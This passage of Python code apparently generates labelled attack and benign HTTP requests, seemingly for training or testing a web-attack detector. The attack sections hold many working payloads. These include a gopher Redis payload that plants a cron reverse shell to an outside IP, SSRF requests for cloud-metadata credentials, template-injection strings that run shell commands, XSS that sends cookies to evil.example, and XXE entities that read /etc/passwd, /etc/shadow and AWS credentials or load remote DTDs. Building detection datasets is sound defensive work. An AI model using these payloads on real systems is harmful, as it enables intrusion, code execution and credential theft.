        "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2464%0D%0A%0A%0A%2A%2F1%20%2A%20%2A%20%2A%20%2A%20bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F203.0.113.9%2F4444%200%3E%261%0A%0A%0D%0A",
    )
    Q("/api/v1/unfurl", "url", "dict://127.0.0.1:11211/stats")
    Q("/render", "page", "file:///etc/passwd")
    Q("/api/v1/webhook/test", "target", "http://[::ffff:169.254.169.254]/latest/meta-data/", hard=True)
    Q("/api/v1/fetch", "url", "http://[::1]:8080/admin", hard=True)
    Q("/api/v1/avatar/import", "url", "http://2852039166/latest/user-data", hard=True)
    Q("/image", "url", "http://0xa9fea9fe/latest/meta-data/", hard=True)
    Q("/api/v1/link-preview", "url", "http://0251.0376.0251.0376/latest/meta-data/hostname", hard=True)
    Q("/api/v1/import", "feed", "http://169.254.169.254.nip.io/latest/meta-data/", hard=True)
    Q("/api/v1/check", "host", "http://7f000001.c0a80001.rbndr.us:8080/", hard=True)
    Q("/pdf/generate", "url", "http://127.1/server-status", hard=True)
    Q("/api/v1/fetch", "url", "http://allowed.shopwave.io@169.254.169.254/latest/meta-data/", hard=True)
    Q("/api/v1/og", "url", "http://100.100.100.200/latest/meta-data/ram/security-credentials/")
    Q("/api/v1/proxy", "url", "http://169.254.170.2/v2/credentials/" + ruuid())
    Q("/api/v1/download", "src", "http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets")
    Q("/api/v1/fetch", "url", "http://[fd00:ec2::254]/latest/meta-data/", hard=True)
    Q(
        "/preview",
        "url",
        "http://\u2460\u2465\u2468.\u2461\u2464\u2463.\u2460\u2465\u2468.\u2461\u2464\u2463/",
        hard=True,
    )
    Q("/api/v1/fetch", "url", "http://127.0.0.1:80\\@trusted.example/", hard=True)
    Q(
        "/api/v1/screenshot",
        "url",
        "http://localhost:2375/containers/json",
        raw=fullenc("http://localhost:2375/containers/json"),
        hard=True,
    )
    QK("/api/v1/callbacks", "callback[url]", "http://169.254.169.254/latest/meta-data/public-keys/0/openssh-key")
    QK("/api/v1/integrations", "endpoints[]", "http://localhost:8500/v1/agent/self")
    P(
        "/proxy/{}",
        "http://169.254.169.254/latest/meta-data/iam/info",
        raw="http://169.254.169.254/latest/meta-data/iam/info",
    )
    P("/api/image-proxy/{}", "http://127.0.0.1:9200/_cat/indices", raw="http%3A%2F%2F127.0.0.1%3A9200%2F_cat%2Findices")
    P(
        "/fetch/{}",
        "http%3A%2F%2F0%3A8080%2Factuator%2Fenv",
        raw="http%253A%252F%252F0%253A8080%252Factuator%252Fenv",
        hard=True,
    )
    J(
        "POST",
        "/api/v1/webhooks",
        {"url": PH, "events": ["order.created"]},
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/ec2-role",
    )
    J("POST", "/api/v1/users/me/avatar", {"image_url": PH}, "http://192.168.0.1/admin/config.bin")
    J("POST", "/api/v1/import/url", {"source": PH, "format": "csv"}, "file:///proc/self/environ")
    J(
        "POST",
        "/api/v1/pdf",
        {"html": PH},
        '<iframe src="http://169.254.169.254/latest/meta-data/iam/security-credentials/" width="800" height="600"></iframe>',
    )
    J(
        "POST",
        "/api/v1/integrations/slack",
        {"webhook": PH},
        "http://[0:0:0:0:0:ffff:7f00:1]:8080/internal/users",
        hard=True,
    )
    J("POST", "/api/v1/feeds", {"url": PH}, "http://0/", hard=True)
    J("PUT", "/api/v1/settings/sso", {"metadata_url": PH}, "http://localtest.me:8080/actuator/heapdump", hard=True)
    J("POST", "/api/v1/oembed", {"url": PH}, "http://169.254.169.254#@www.youtube.com/watch", hard=True)
    J("POST", "/api/v1/fetch", {"url": PH}, "netdoc:///etc/passwd")
    JK("POST", "/api/v1/mirror", {"targets": {PH: "GET"}}, "http://127.0.0.1:8001/api/v1/secrets")
    F("POST", "/account/website", [("website", PH)], "http://169.254.169.254/latest/meta-data/")
    F(
        "POST",
        "/tools/check-link",
        [("url", PH)],
        "gopher://127.0.0.1:25/_HELO%20localhost%0AMAIL%20FROM%3A%3Cadmin%40victim.example%3E",
    )
    F(
        "POST",
        "/admin/import",
        [("feed_url", PH)],
        "http://169.254.169.254/computeMetadata/v1/",
        hard=True,
        raw=mixenc("http://169.254.169.254/computeMetadata/v1/"),
    )
    H("GET", "/", "Host", "169.254.169.254")
    H("GET", "/api/v1/health", "X-Forwarded-Host", "127.0.0.1:8080")
    H("GET", "/", "Referer", "http://c8a1k2f0.oast.fun/ssrf-referer")
    H("GET", "/img", "X-Original-URL", "http://169.254.169.254/latest/meta-data/")
    C("/dashboard", "img_proxy", "http://127.0.0.1:8080/admin")
    C("/", "avatar_src", "http://[::ffff:a9fe:a9fe]/latest/meta-data/", hard=True)
    M("/api/v1/upload/by-url", [("url", PH)], "http://169.254.169.254/latest/user-data")
    M(
        "/api/v1/images",
        [("file", "logo.svg", "image/svg+xml", PH)],
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="200"><image xlink:href="http://169.254.169.254/latest/meta-data/" width="200" height="200"/></svg>',
    )
    X(
        "POST",
        "/api/xml/fetch",
        '<?xml version="1.0"?>\n<fetch><url>@@PAYLOAD@@</url></fetch>',
        "http://127.0.0.1:8080/manager/html",
    )
    X(
        "POST",
        "/services/ImportService",
        soap("<tns:ImportFeed><tns:FeedUrl>@@PAYLOAD@@</tns:FeedUrl></tns:ImportFeed>"),
        "http://metadata/computeMetadata/v1/instance/attributes/kube-env",
    )


def gen_ssti():
    begin("attack", "ssti")
    Q("/hello", "name", "{{7*7}}")
    Q("/preview", "tpl", "{{config.items()}}", raw=mixenc("{{config.items()}}"), hard=True)
    Q("/api/v1/greeting", "name", "{{''.__class__.__mro__[1].__subclasses__()}}")
    Q("/render", "msg", "{{cycler.__init__.__globals__['o'+'s'].popen('i'+'d').read()}}", hard=True)
    Q("/page", "title", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}")
    Q(
        "/welcome",
        "user",
        "{{lipsum|attr('__globals__')|attr('__getitem__')('os')|attr('popen')('cat /etc/passwd')|attr('read')()}}",
        hard=True,
    )
    Q(
        "/search",
        "q",
        "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')()}}",
        hard=True,
    )
    Q("/profile", "name", "{{request|attr(request.args.c)}}", post="&c=__class__", hard=True)
    Q("/api/v1/preview", "body", "{{request['__cl'+'ass__']}}", hard=True)
    Q("/error", "message", "${7*7}")
    Q("/hello", "lang", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x")
    Q(
        "/doc",
        "section",
        '__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("id").getInputStream()).next()}__::.x',
        hard=False,
    )
    Q("/hello", "name", "${{<%[%'\"}}%\\.")
    Q("/greet", "name", "{{7*'7'}}", raw=fullenc("{{7*'7'}}"), hard=True)
    Q("/api/v1/email/preview", "subject", "{{ '%c'|format(60) }}script{{ '%c'|format(62) }}")
    QK("/render", "{{191*7}}", "1")
    QK("/api/v1/vars", "ctx[{{config}}]", "x")
    P("/hello/{}", "{{1337*7331}}", raw="%7B%7B1337*7331%7D%7D")
    P(
        "/user/{}/home",
        "__${T(java.lang.Runtime).getRuntime().exec('touch /tmp/x')}__::.x",
        raw=urllib.parse.quote("__${T(java.lang.Runtime).getRuntime().exec('touch /tmp/x')}__::.x", safe=""),
    )
    P(
        "/greeting/{}",
        '${"freemarker.template.utility.Execute"?new()("id")}',
        raw="$%7B%22freemarker.template.utility.Execute%22%3Fnew()(%22id%22)%7D",
    )
    J(
        "POST",
        "/api/v1/templates/preview",
        {"template": PH, "data": {"name": "Ann"}},
        '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    )
    J(
        "POST",
        "/api/v1/notifications/templates",
        {"body": PH},
        "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()",
    )
    J(
        "POST",
        "/api/v1/email/templates",
        {"html": PH},
        '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}',
    )
    J("POST", "/api/v1/cards", {"message": PH}, "{{['i'~'d']|filter('sys'~'tem')}}", hard=True)
    J("POST", "/api/v1/reports/render", {"header": PH}, "{{['cat /etc/passwd']|map('system')|join}}")
    J("POST", "/api/v1/pages", {"content": PH}, "{php}echo `id`;{/php}")
    J("PUT", "/api/v1/profile", {"bio": PH}, "{system('cat /etc/passwd')}")
    J("POST", "/api/v1/letters", {"text": PH}, "<%= `id` %>")
    J("POST", "/api/v1/invoices/notes", {"note": PH}, "<%= File.open('/et'+'c/pas'+'swd').read %>", hard=True)
    J(
        "POST",
        "/api/v1/render",
        {"source": PH},
        "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    )
    J(
        "POST",
        "/api/v1/cms/blocks",
        {"markup": PH},
        "#{root.process.mainModule.require('child_process').spawnSync('id').stdout}",
    )
    J("POST", "/api/v1/reports", {"footer": PH}, '${self.module.cache.util.os.system("id")}')
    J("POST", "/api/v1/templates", {"tpl": PH}, '{% import os %}{{ os.popen("id").read() }}')
    J(
        "POST",
        "/api/v1/mail/merge",
        {"body": PH},
        LONG_PREFIX[1] + "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}",
        hard=True,
    )
    J("POST", "/api/v1/preview", {"text": PH}, "{{7*7}}", hard=True, jraw='"\\u007b\\u007b7*7\\u007d\\u007d"')
    JK("POST", "/api/v1/i18n", {"strings": {PH: "Hello"}}, "{{''.__class__.__base__.__subclasses__()}}")
    F("POST", "/contact", [("name", PH), ("email", "a@example.com")], "{{config.SECRET_KEY}}")
    F("POST", "/account/profile", [("display_name", PH)], '@(System.Diagnostics.Process.Start("cmd.exe","/c whoami"))')
    F(
        "POST",
        "/feedback",
        [("comment", PH)],
        "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen('id').read()}}{% endif %}{% endfor %}",
    )
    F("POST", "/newsletter", [("first_name", PH)], "&#123;&#123;7*7&#125;&#125;", hard=True)
    F(
        "POST",
        "/api/v1/greetings",
        [("tpl", PH)],
        "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
        hard=True,
        raw=mixenc("{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    )
    H("GET", "/", "User-Agent", "{{7*7}}${7*7}<%= 7*7 %>")
    H("GET", "/api/v1/me", "X-Forwarded-Host", "{{config}}")
    H("GET", "/dashboard", "Referer", "https://www.google.com/?q=${T(java.lang.System).getenv()}")
    C("/home", "theme", "{{7*7}}", raw=fullenc("{{7*7}}"), hard=True)
    C(
        "/app",
        "display_name",
        "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
        hard=False,
    )
    M(
        "/api/v1/templates/upload",
        [("name", "welcome"), ("file", "welcome.html", "text/html", PH)],
        "<h1>Hi {{ user.name }}</h1>{{ ''.__class__.__mro__[1].__subclasses__()[407]('id',shell=True,stdout=-1).communicate() }}",
    )
    M(
        "/api/v1/cards",
        [("greeting", PH)],
        '${"freemarker.template.utility.ObjectConstructor"?new()("java.lang.ProcessBuilder","id").start()}',
    )
    X(
        "POST",
        "/api/xml/letters",
        '<?xml version="1.0"?>\n<letter><to>Ann</to><body><![CDATA[@@PAYLOAD@@]]></body></letter>',
        '<%= system("whoami") %>',
    )
    X(
        "POST",
        "/services/TemplateService",
        soap("<tns:Render><tns:Template>@@PAYLOAD@@</tns:Template></tns:Render>"),
        "${7*7}#{7*7}",
    )


def gen_xss():
    begin("attack", "xss")
    Q("/search", "q", "<script>alert(document.domain)</script>")
    Q("/search", "q", '"><img src=x onerror=alert(1)>', post="&page=1")
    Q("/error", "msg", "<svg/onload=alert(1)>")
    Q("/redirect", "url", "javascript:alert(document.cookie)")
    Q("/api/v1/jsonp", "callback", "alert(1)//")
    Q("/product", "ref", "'-alert(1)-'")
    Q("/login", "return", "</script><script>alert(1)</script>")
    Q("/page", "q", "<details open ontoggle=alert(1)>")
    Q("/view", "name", '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>')
    Q("/search", "term", "<ScRiPt>alert(1)</sCrIpT>", hard=True)
    Q("/s", "q", "<scr<script>ipt>alert(1)</scr</script>ipt>", hard=True)
    Q("/find", "q", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", hard=True)
    Q("/link", "to", "&#106;avascript:alert(1)", hard=True)
    Q("/results", "q", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", hard=True)
    Q("/go", "next", "java\tscript:alert(1)", hard=True)
    Q("/search", "q", "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuZG9tYWluKQ=='))>", hard=True)
    Q("/p", "x", "<img src=x onerror=top['al'+'ert'](1)>", hard=True)
    Q("/app", "q", "{{constructor.constructor('alert(1)')()}}")
    Q(
        "/help",
        "topic",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        raw=fullenc("<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
        hard=True,
    )
    Q("/out", "url", "javascript://%0aalert(1)", hard=True)
    QK("/search", "<script>prompt(1)</script>", "1")
    QK("/page", 'q"><svg onload=alert(1)>', "x")
    P(
        "/search/{}",
        "<script>confirm(document.cookie)</script>",
        raw="%3Cscript%3Econfirm(document.cookie)%3C%2Fscript%3E",
    )
    P("/users/{}", '"><svg onload=confirm(1)>', raw="%22%3E%3Csvg%20onload=confirm(1)%3E")
    P(
        "/{}",
        "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
        raw="%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E",
        hard=True,
    )
    J(
        "POST",
        "/api/v1/comments",
        {"post_id": 88, "body": PH},
        "<img src=1 onerror=\"fetch('https://evil.example/steal?c='+btoa(document.cookie))\">",
    )
    J(
        "PUT",
        "/api/v1/profile",
        {"bio": PH},
        "<a href=\"javascript:fetch('//evil.example/?c='+document.cookie)\">my site</a>",
    )
    J("POST", "/api/v1/messages", {"text": PH}, "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>")
    J(
        "POST",
        "/api/v1/reviews",
        {"rating": 5, "title": PH},
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    )
    J("POST", "/api/v1/tickets", {"subject": PH}, "<input autofocus onfocus=alert(document.domain)>")
    J(
        "POST",
        "/api/v1/chat",
        {"message": PH},
        "<script>alert(1)</script>",
        hard=True,
        jraw='"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"',
    )
    J(
        "POST",
        "/api/v1/posts",
        {"title": "hi", "html": PH},
        "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
        hard=True,
    )
    J("POST", "/api/v1/wiki/pages", {"content": PH}, LONG_PREFIX[3] + "<svg/onload=alert`1`>", hard=True)
    JK("POST", "/api/v1/settings/labels", {"labels": {PH: "red"}}, "<img src=x onerror=alert(1)>")
    F("POST", "/guestbook", [("name", "Mallory"), ("message", PH)], "<body onload=alert('XSS')>")
    F("POST", "/profile", [("website", PH)], "javascript:alert(document.domain)")
    F("POST", "/comment", [("text", PH)], "<video><source onerror=alert(1)>")
    F("POST", "/contact", [("name", PH)], "<scr<!--x-->ipt>alert(1)</script>", hard=True)
    H("GET", "/", "Referer", 'https://www.google.com/"><script>alert(1)</script>')
    H("GET", "/admin/logs", "User-Agent", "<script src=https://evil.example/x.js></script>")
    C("/", "username", "<script>alert(1)</script>")
    C("/dashboard", "lang", 'en"><svg/onload=alert(1)>', hard=False)
    M(
        "/api/v1/avatars",
        [("file", "avatar.svg", "image/svg+xml", PH)],
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><circle r="40"/></svg>',
    )
    M("/upload", [("file", PH, "image/png", "PNG...")], '"><img src=x onerror=alert(1)>.png')
    M(
        "/api/v1/docs",
        [("title", PH), ("file", "a.txt", "text/plain", "x")],
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">open</a>',
        hard=True,
    )
    X(
        "POST",
        "/api/v1/feeds/import",
        '<?xml version="1.0"?>\n<rss version="2.0"><channel><title>News</title><item><title><![CDATA[@@PAYLOAD@@]]></title><link>https://news.example/1</link></item></channel></rss>',
        "<script>alert(window.origin)</script>",
    )
    X(
        "POST",
        "/api/v1/svg/sanitize",
        '<svg xmlns="http://www.w3.org/2000/svg"><script>alert&#40;1&#41;</script></svg>',
        "<script>alert(1)</script>",
        hard=True,
    )


def gen_xxe():
    begin("attack", "xxe")
    decl = '<?xml version="1.0" encoding="UTF-8"?>\n'

    def xx(path, dtd, root, payload=None, hard=False, method="POST", ctype=None, query=""):
        body = decl + dtd + "\n" + root
        return X(method, path, body, payload if payload is not None else dtd, hard=hard, ctype=ctype, query=query)

    xx(
        "/api/v1/orders/import",
        '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        "<order><id>&xxe;</id></order>",
    )
    xx(
        "/services/Inventory",
        '<!DOCTYPE r [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]>',
        "<stock><sku>&xxe;</sku></stock>",
    )
    xx(
        "/api/xml/parse",
        '<!DOCTYPE data [<!ENTITY % remote SYSTEM "http://203.0.113.20/evil.dtd"> %remote;]>',
        "<data>1</data>",
    )
    xx(
        "/api/v1/feeds",
        '<!DOCTYPE x [<!ENTITY % file SYSTEM "file:///etc/hostname"><!ENTITY % dtd SYSTEM "http://c8a1k2f0.oast.fun/x.dtd"> %dtd;]>',
        "<x>&send;</x>",
    )
    xx(
        "/xmlrpc.php",
        '<!DOCTYPE m [<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=/var/www/html/wp-config.php">]>',
        "<methodCall><methodName>&xxe;</methodName></methodCall>",
    )
    xx("/api/xml/exec", '<!DOCTYPE r [<!ENTITY xxe SYSTEM "expect://id">]>', "<r>&xxe;</r>")
    xx("/services/Report", '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">]>', "<report>&xxe;</report>")
    xx("/api/v1/import", '<!DOCTYPE r [<!ENTITY xxe SYSTEM "netdoc:/etc/passwd">]>', "<r>&xxe;</r>")
    xx(
        "/api/v1/saml/acs",
        '<!DOCTYPE message [<!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd"><!ENTITY % ISOamso \'<!ENTITY &#x25; file SYSTEM "file:///etc/passwd"><!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>">&#x25;eval;&#x25;error;\'>%local_dtd;]>',
        "<message>x</message>",
        hard=True,
    )
    xx(
        "/api/v1/parse",
        '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;"><!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">]>',
        "<lolz>&lol5;</lolz>",
    )
    X(
        "POST",
        "/api/v1/documents",
        decl
        + '<doc xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></doc>',
        '<xi:include parse="text" href="file:///etc/passwd"/>',
    )
    X(
        "POST",
        "/api/v1/search",
        decl
        + '<search><q><foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/shadow"/></foo></q></search>',
        '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/shadow"/></foo>',
    )
    xx(
        "/api/v1/rss/validate",
        '<!DOCTYPE  rss  [\n\t<!ENTITY\txxe\tSYSTEM\n  "file:///etc/passwd" >\n]>',
        '<rss version="2.0"><channel><title>&xxe;</title></channel></rss>',
        hard=True,
    )
    xx(
        "/api/v1/orders",
        '<!DOCTYPE r [<!ENTITY xxe PUBLIC "-//W3C//TEXT xxe//EN" "file:///etc/passwd">]>',
        "<r>&xxe;</r>",
        hard=True,
    )
    xx(
        "/api/v1/auth/login",
        '<!DOCTYPE login [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        "<login><username>&xxe;</username><password>x</password></login>",
    )
    X(
        "POST",
        "/api/v1/profile",
        '<?xml version="1.0" encoding="UTF-7"?>\n+ADwAIQ-DOCTYPE foo +AFs-+ADwAIQ-ENTITY xxe SYSTEM +ACI-file:///etc/passwd+ACI-+AD4-+AF0-+AD4-\n+ADw-foo+AD4-+ACY-xxe+ADsAPA-/foo+AD4-',
        "+ADwAIQ-DOCTYPE foo +AFs-+ADwAIQ-ENTITY xxe SYSTEM +ACI-file:///etc/passwd+ACI-+AD4-+AF0-+AD4-",
        hard=True,
    )
    xx(
        "/soap/UserService",
        '<!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "file:///etc/shadow">]>',
        '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetUser><id>&xxe;</id></GetUser></soap:Body></soap:Envelope>',
        ctype="text/xml",
    )
    xx(
        "/api/v1/webdav/notes.xml",
        '<!DOCTYPE n [<!ENTITY % a SYSTEM "http://198.51.100.5/a.dtd"> %a; %b;]>',
        "<note>&c;</note>",
        method="PUT",
    )
    xx(
        "/api/v1/config",
        '<!DOCTYPE c [<!ENTITY xxe SYSTEM "jar:http://203.0.113.30/evil.jar!/x.txt">]>',
        "<config>&xxe;</config>",
    )
    xx(
        "/api/v1/catalog",
        '<!DOCTYPE x [<!ENTITY % p1 SYSTEM "file:///etc/passwd"><!ENTITY % p2 "<!ENTITY e SYSTEM \'http://203.0.113.44/?%p1;\'>"> %p2;]>',
        "<x>&e;</x>",
    )
    xx(
        "/api/v1/import/xml",
        '<!DOCTYPE x [<!ENTITY &#x25; ext SYSTEM "http://198.51.100.88/ext.dtd"> &#x25;ext;]>',
        "<x/>",
        hard=True,
    )
    xx(
        "/api/v1/invoices",
        '<!DOCTYPE inv [<!ENTITY xxe SYSTEM "file:///%70roc/self/%65nviron">]>',
        "<invoice><customer>&xxe;</customer></invoice>",
        method="PUT",
        hard=True,
    )
    xx(
        "/api/v1/gpx/upload",
        '<!DOCTYPE gpx [<!ENTITY xxe SYSTEM "http://2130706433:8080/manager/status">]>',
        '<gpx version="1.1"><trk><name>&xxe;</name></trk></gpx>',
        ctype="application/gpx+xml",
        hard=True,
    )
    xx(
        "/api/v1/sitemap/check",
        '<!-- Sitemap generated by SiteCrawler Pro 7.4.2 for www.greenleaf-market.com on 2026-12-05; 1,204 URLs, 3 image sitemaps, 0 errors; see https://www.sitemaps.org/protocol.html for the format -->\n<!DOCTYPE urlset [<!ENTITY xxe SYSTEM "file:///home/app/.aws/credentials">]>',
        '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>&xxe;</loc></url></urlset>',
        hard=True,
    )
    # XML delivered inside other containers
    svg = '<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]><svg width="128" height="128" xmlns="http://www.w3.org/2000/svg"><text font-size="16" x="0" y="16">&xxe;</text></svg>'
    M("/api/v1/avatars", [("file", "avatar.svg", "image/svg+xml", PH)], svg)
    M(
        "/api/v1/import",
        [("type", "opml"), ("file", "feeds.opml", "text/x-opml", PH)],
        '<?xml version="1.0"?><!DOCTYPE opml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><opml version="2.0"><body><outline text="&xxe;"/></body></opml>',
    )
    M(
        "/api/v1/documents",
        [("file", "invoice.xml", "application/xml", PH)],
        '<?xml version="1.0"?><!DOCTYPE i [<!ENTITY % r SYSTEM "http://203.0.113.20/i.dtd"> %r;]><invoice/>',
    )
    M(
        "/upload",
        [("file", "map.kml", "application/vnd.google-earth.kml+xml", PH)],
        '<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY xxe SYSTEM "file:///etc/issue">]><kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>&xxe;</name></Placemark></kml>',
    )
    J(
        "POST",
        "/api/v1/xml/validate",
        {"xml": PH},
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>',
    )
    J(
        "POST",
        "/api/v1/soap/proxy",
        {"envelope": PH, "action": "GetQuote"},
        '<!DOCTYPE e [<!ENTITY % x SYSTEM "http://198.51.100.33/x.dtd">%x;]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body/></soap:Envelope>',
    )
    J(
        "POST",
        "/api/v1/converters/xml2json",
        {"input": PH},
        '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
        hard=True,
        jraw=json.dumps('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>')
        .replace("<", "\\u003c")
        .replace(">", "\\u003e"),
    )
    saml = b64(
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % ext SYSTEM "http://203.0.113.20/saml.dtd"> %ext;]><samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_1" Version="2.0"/>'
    )
    F("POST", "/saml/acs", [("SAMLResponse", PH), ("RelayState", "/dashboard")], saml, hard=True)
    F(
        "POST",
        "/api/xml",
        [("data", PH)],
        '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>',
    )
    Q("/api/v1/parse", "xml", '<!DOCTYPE q [<!ENTITY x SYSTEM "file:///etc/passwd">]><q>&x;</q>')
    Q(
        "/wms",
        "SLD_BODY",
        '<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><StyledLayerDescriptor version="1.0.0"><NamedLayer><Name>&x;</Name></NamedLayer></StyledLayerDescriptor>',
        pre="SERVICE=WMS&REQUEST=GetMap&",
        hard=True,
        raw=fullenc(
            '<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><StyledLayerDescriptor version="1.0.0"><NamedLayer><Name>&x;</Name></NamedLayer></StyledLayerDescriptor>'
        ),
    )
    C(
        "/api/v1/state",
        "prefs_xml",
        b64('<?xml version="1.0"?><!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]><p>&x;</p>'),
        hard=True,
    )
    H(
        "POST",
        "/api/v1/batch",
        "X-Batch-Manifest",
        '<!DOCTYPE m [<!ENTITY x SYSTEM "http://203.0.113.20/m">]><m>&x;</m>',
        body='{"items":[]}',
        ctype="application/json",
    )
    xx(
        "/api/v1/login",
        '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        "<root><email>&xxe;</email></root>",
        ctype="application/xml",
    )
    xx(
        "/api/v1/xlsx/preview",
        "<!DOCTYPE x [<!ENTITY % a \"<!ENTITY &#x25; b SYSTEM 'file:///etc/passwd'>\">%a;]>",
        "<x/>",
        hard=True,
    )


# =====================================================================
# BENIGN
# =====================================================================

FIRST = [
    "Liam",
    "Olivia",
    "Noah",
    "Emma",
    "Mateo",
    "Sofia",
    "Aarav",
    "Mei",
    "Lukas",
    "Chloé",
    "Siobhán",
    "Zoë",
    "José",
    "Björn",
    "Aisha",
    "Kenji",
    "Priya",
    "Oluwaseun",
    "Tomás",
    "Anna",
    "Grace",
    "Ravi",
    "Fatima",
    "Jonas",
]
LAST = [
    "Smith",
    "O'Brien",
    "García",
    "Müller",
    "Nguyen",
    "D'Angelo",
    "Okafor",
    "Kowalski",
    "van der Berg",
    "Johansson",
    "Tanaka",
    "Patel",
    "O'Neill",
    "McDonald",
    "Fernández",
    "Dubois",
    "Rossi",
    "Kim",
    "Santos",
    "Al-Sayed",
    "Lee",
    "Brown",
]
CITIES = [
    ("Portland", "OR", "97205", "US"),
    ("Austin", "TX", "78701", "US"),
    ("Toronto", "ON", "M5V 2T6", "CA"),
    ("Manchester", "", "M1 1AE", "GB"),
    ("Berlin", "", "10115", "DE"),
    ("Lyon", "", "69002", "FR"),
    ("Dublin", "", "D02 X285", "IE"),
    ("Melbourne", "VIC", "3000", "AU"),
    ("Denver", "CO", "80202", "US"),
]
STREETS = [
    "221B Baker Street",
    "12 O'Connell Street",
    "1600 Amphitheatre Pkwy",
    "Unit 5/18 King St",
    "Flat 3, 45 Queen's Road",
    "742 Evergreen Terrace",
    "Hauptstraße 12",
    "8 Rue de l'Église",
    "55 Water St, Suite 400",
    "17 St. Mary's Lane",
]
PRODUCTS = [
    ("Ergonomic Desk Chair", "CHR-2201", 249.0),
    ('12" Cast-Iron Skillet', "SKL-12CI", 39.5),
    ("Noise-Cancelling Headphones (Black)", "HP-NC700-BK", 299.99),
    ("Men's Trail Running Shoes - Size 10", "SHO-TR-10", 129.0),
    ("USB-C to USB-C Cable, 2m", "CBL-USBC-2M", 12.99),
    ("Organic Dark Roast Coffee 1kg", "COF-DR-1K", 24.0),
    ("Kids' Rain Jacket", "JKT-KID-RN", 45.0),
    ('27" 4K Monitor', "MON-27-4K", 379.0),
